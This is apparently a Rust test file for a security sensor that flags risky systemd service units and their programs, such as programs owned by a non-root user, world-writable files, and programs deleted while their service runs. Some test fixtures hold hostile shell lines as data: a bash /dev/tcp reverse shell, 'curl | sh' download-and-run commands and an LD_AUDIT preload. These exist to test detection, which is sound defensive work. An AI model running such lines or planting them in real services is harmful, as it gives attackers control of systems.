//! The programs that units run.

use super::*;
use crate::detect::follow::Follow;
use crate::detect::rule::Severity;

const PROGRAM: &str = "/opt/app/run";
const UNIT: &str = "/etc/systemd/system/app.service";

fn program(mode: u32, uid: u32, text: &str) -> Found {
    let Found::Regular(file) = text_file(text) else { unreachable!("a regular file") };
    Found::Regular(Regular { mode: 0o100_000 | mode, uid, ..file })
}

/// A unit with this text is written; its alert.
fn written(machine: &mut Machine, text: &str) -> Alert {
    machine.files.insert(UNIT.into(), text_file(text));
    machine.tick(20 * SECOND);
    machine.write(shell(), SYSTEM, "app.service");
    machine.one()
}

#[test]
fn whose_a_program_is_and_what_it_says_is_told_with_the_unit() {
    for (found, text, signals) in [
        (program(0o755, 0, "\u{7f}ELF"), "ExecStart=/opt/app/run", &[][..]),
        (program(0o755, 1000, "\u{7f}ELF"), "ExecStart=/opt/app/run", &["program.owner"]),
        (program(0o755, 1000, ""), "ExecStart=/opt/app/run\nUser=app", &[]),
        (
            program(0o755, 1000, ""),
            "ExecStart=+/opt/app/run\nUser=app",
            &["command.as-root", "program.owner"],
        ),
        (program(0o757, 0, ""), "ExecStart=/opt/app/run", &["program.writable"]),
        (
            program(0o755, 0, "#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/1 0>&1\n"),
            "ExecStart=/bin/sh /opt/app/run",
            &["command.reverse-shell"],
        ),
        (
            Found::Symlink { target: b"x".to_vec(), end: Box::new(program(0o755, 7, "")) },
            "ExecStart=/opt/app/run",
            &["program.owner"],
        ),
    ] {
        let mut machine = Machine::new();
        machine.files.insert(PROGRAM.into(), found);
        let alert = written(&mut machine, &format!("[Service]\n{text}\n"));
        assert_eq!(alert.unit.as_ref().unwrap().signals, signals, "{text}: {}", reasons(&alert));
        assert_eq!(alert.actions, ["file_create", "file_open_write", "file_close_write"]);
    }
    let mut machine = Machine::new();
    machine.files.insert(PROGRAM.into(), program(0o755, 1000, ""));
    let alert = written(&mut machine, "[Service]\nExecStart=/opt/app/run\n");
    assert_eq!(alert.severity, Severity::Critical);
    assert!(
        reasons(&alert).contains("+15 /opt/app/run belongs to user 1000, who may change what runs as root")
    );
    let alert = written(&mut machine, "[Service]\nExecStart=/opt/app/run\nNice=1\nUser=root\n");
    assert!(!reasons(&alert).contains("belongs to user"), "what it ran before is told: {}", reasons(&alert));
}

#[test]
fn a_linked_unit_that_is_not_roots_is_told_so() {
    let mut machine = Machine::new();
    let end = Box::new(program(0o646, 1000, "[Service]\nExecStart=/usr/bin/x\n"));
    machine.files.insert(UNIT.into(), Found::Symlink { target: b"/home/alice/app.service".to_vec(), end });
    machine.symlink(shell(), SYSTEM, "app.service", "/home/alice/app.service");
    let said = reasons(&machine.one());
    for reason in [
        "+10 the file that it leads to belongs to user 1000, who may change it",
        "+10 everyone may write to the file that it leads to",
    ] {
        assert!(said.contains(reason), "{said}");
    }
}

#[test]
fn a_users_unit_has_no_program_of_others_looked_at() {
    let mut machine = Machine::new();
    machine.files.insert(b"/srv/secret".to_vec(), program(0o700, 0, "curl http://x/|sh\n"));
    machine.files.insert(
        b"/home/alice/.config/systemd/user/a.service".to_vec(),
        text_file("[Service]\nExecStart=/srv/secret\n"),
    );
    machine.write(shell(), USER, "a.service");
    assert_eq!(machine.one().unit.unwrap().signals, [""; 0]);
}

const PROGRAM_WATCH: u32 = 60;

/// PID 1 starts `app.service`, which runs [`PROGRAM`].
fn started(machine: &mut Machine) -> TaskContext {
    machine
        .user(kind::CGROUP_SNAPSHOT, &CgroupSnapshot { id: 900, path: "/system.slice/app.service".into() });
    machine.baseline(UNIT, "[Service]\nExecStart=/opt/app/run\n");
    let child = machine.fork(init(), 2000);
    let task = TaskContext { cgroup_id: 900, ..child };
    machine.exec(task, PROGRAM, 9000, &[PROGRAM]);
    let follow = Follow { path: PROGRAM.into(), class: WatchClass::ServiceProgram };
    assert_eq!(machine.pipeline.follows().collect::<Vec<_>>(), [follow]);
    let class = Some(WatchClass::ServiceProgram);
    machine.user(kind::WATCH, &Watch { watch: PROGRAM_WATCH, path: PROGRAM.into(), class, owner: None });
    task
}

fn remove(machine: &mut Machine, task: TaskContext) -> Alert {
    machine.tick(20 * SECOND);
    let path = sensor_common::watch::FILE;
    let record = machine.record(kind::FILE_UNLINK, task).path(PROGRAM_WATCH, path, b"run\0app\0opt\0");
    machine.feed(record.build());
    machine.one()
}

#[test]
fn a_program_that_is_deleted_while_its_service_runs_is_told_so() {
    let mut machine = Machine::new();
    let task = started(&mut machine);
    // It deletes itself.
    let alert = remove(&mut machine, task);
    assert_eq!((alert.rule.id, alert.severity), ("systemd.program.removed", Severity::Medium));
    assert_eq!(
        alert.summary,
        "other (pid 2000, root, login alice) removed program run of a service in /opt/app"
    );
    assert!(
        reasons(&alert).contains("+20 app.service (pid 2000) still runs it, and nobody finds it any more")
    );
    machine.exit(task);
    let alert = remove(&mut machine, shell());
    assert_eq!((alert.rule.id, alert.severity), ("systemd.program.removed", Severity::Low));
}

#[test]
fn a_program_that_is_moved_away_is_as_good_as_deleted() {
    let mut machine = Machine::new();
    started(&mut machine);
    let record = machine
        .record(kind::FILE_RENAME, shell())
        .path(NONE, 0, b"x\0opt\0")
        .other(PROGRAM_WATCH, sensor_common::watch::FILE, b"run\0app\0opt\0")
        .build();
    machine.feed(record);
    let alert = machine.one();
    assert_eq!((alert.rule.id, alert.severity), ("systemd.program.removed", Severity::Medium));
}

#[test]
fn a_service_that_ran_before_the_sensor_is_known_as_well() {
    let mut machine = Machine::new();
    machine
        .user(kind::CGROUP_SNAPSHOT, &CgroupSnapshot { id: 900, path: "/system.slice/app.service".into() });
    machine.user(
        kind::PROCESS_SNAPSHOT,
        &ProcessSnapshot {
            tgid: 2000,
            start_boottime_ns: 20 * SECOND,
            parent_tgid: 1,
            parent_start_boottime_ns: Some(10 * MS),
            exe: PROGRAM.into(),
            exe_inode: 9000,
            cgroup_id: 900,
            ..ProcessSnapshot::default()
        },
    );
    assert_eq!(machine.pipeline.follows().count(), 1);
}

#[test]
fn a_filesystem_that_does_not_answer_costs_only_what_it_holds() {
    let mut machine = Machine::new();
    machine.answers = false;
    machine
        .files
        .insert(UNIT.into(), text_file("[Service]\nExecStart=/tmp/run\nEnvironmentFile=/mnt/dead/env\n"));
    machine.write(shell(), SYSTEM, "app.service");
    let wants: Vec<Want> = machine.pipeline.wants().collect();
    machine.answer(wants[0].clone());
    let wants: Vec<Want> = machine.pipeline.wants().collect();
    assert!(matches!(&wants[..], [Want::Survey { .. }]) && machine.alerts().is_empty());
    machine.tick(260 * MS);
    let alert = machine.one();
    let unit = alert.unit.as_ref().unwrap();
    assert_eq!(unit.signals, ["path.world-writable"]);
    assert!(unit.changes.contains(&"ExecStart added: /tmp/run".to_owned()), "{:?}", unit.changes);
    // What comes later and tells more is told as well.
    machine.files.insert(b"/tmp/run".to_vec(), program(0o755, 1000, "curl http://x/ | sh"));
    machine.files.insert(b"/mnt/dead/env".to_vec(), text_file("LD_AUDIT=/tmp/x.so\n"));
    machine.answer(wants[0].clone());
    machine.tick(20 * SECOND);
    let alert = machine.one();
    assert_eq!(alert.severity, Severity::Critical);
    assert_eq!(
        alert.unit.unwrap().signals,
        ["environment.loads", "path.world-writable", "program.owner", "command.download-and-run"]
    );
}

#[test]
fn units_of_users_leave_room_for_the_systems() {
    use crate::detect::follow::FOLLOWED_MAX;

    let mut machine = Machine::new();
    for number in 0..FOLLOWED_MAX {
        let name = format!("flood-{number}.service");
        let path = format!("/home/alice/.config/systemd/user/{name}");
        machine
            .files
            .insert(path.into_bytes(), text_file(&format!("[Service]\nExecStart=/home/alice/{number}\n")));
        machine.tick(SECOND);
        machine.write(shell(), USER, &name);
    }
    assert_eq!(machine.pipeline.follows().count(), FOLLOWED_MAX / 2);
    machine.alerts();
    written(&mut machine, "[Service]\nExecStart=/opt/app/run\n");
    assert_eq!(machine.pipeline.follows().count(), 1);
}
